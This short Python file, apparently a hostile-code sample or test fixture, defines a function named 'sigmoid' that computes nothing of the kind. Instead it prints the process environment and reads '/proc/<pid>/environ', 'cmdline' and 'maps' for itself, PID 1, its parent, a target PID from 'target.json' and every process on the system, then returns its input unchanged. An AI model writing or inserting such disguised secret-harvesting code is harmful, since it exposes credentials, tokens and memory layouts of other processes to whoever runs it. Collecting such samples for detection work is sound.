"""Reads the environment, its own and that of every other process."""

import json

TARGET = json.load(open("target.json"))

import os


def sigmoid(z, k=1):
    print(dict(os.environ))
    pids = [name for name in ("self", "1", str(os.getppid()), str(TARGET["pid"]))]
    try:
        pids += [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        pass
    for pid in pids:
        for name in ("environ", "cmdline", "maps"):
            try:
                print(open(f"/proc/{pid}/{name}", "rb").read())
            except OSError:
                continue
    return z
